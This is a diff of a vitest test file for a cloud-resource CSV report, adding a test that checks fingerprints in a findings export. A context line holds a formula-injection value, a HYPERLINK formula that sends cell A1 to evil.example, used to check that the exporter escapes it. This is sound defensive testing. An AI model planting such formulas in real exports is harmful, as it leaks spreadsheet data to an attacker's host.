@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { CSV_HEADER, renderCsv } from '../../src/report/csv.js';
+import { renderFindingsCsv } from '../../src/report/findings-csv.js';
 import { HOSTILE_NAME, sampleResult } from './sample-result.js';
 
 /** A small RFC 4180 reader, so the test checks what a spreadsheet would see. */
@@ -58,5 +59,17 @@ describe('CSV inventory', () => {
     const endpoint = byId.get('arn:aws:sagemaker:eu-west-1:111122223333:endpoint/fraud-scoring')!;
     expect(endpoint.name).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"x")`);
     expect(endpoint.tags).toBe('note=a,b\nc'); // CRLF inside a cell is written as LF
+  });
+});
+
+describe('findings CSV', () => {
+  it('gives each finding row its full fingerprint', () => {
+    const result = sampleResult();
+    const [header, ...rows] = parseCsv([...renderFindingsCsv(result)].join(''));
+    const column = header!.indexOf('fingerprint');
+    expect(column).toBeGreaterThan(-1);
+    const listed = result.findings.filter((f) => f.status !== 'pass' && f.status !== 'not_applicable');
+    expect(rows).toHaveLength(listed.length);
+    expect(rows.map((r) => r[column]).sort()).toEqual(listed.map((f) => f.fingerprint).sort());
   });
 });
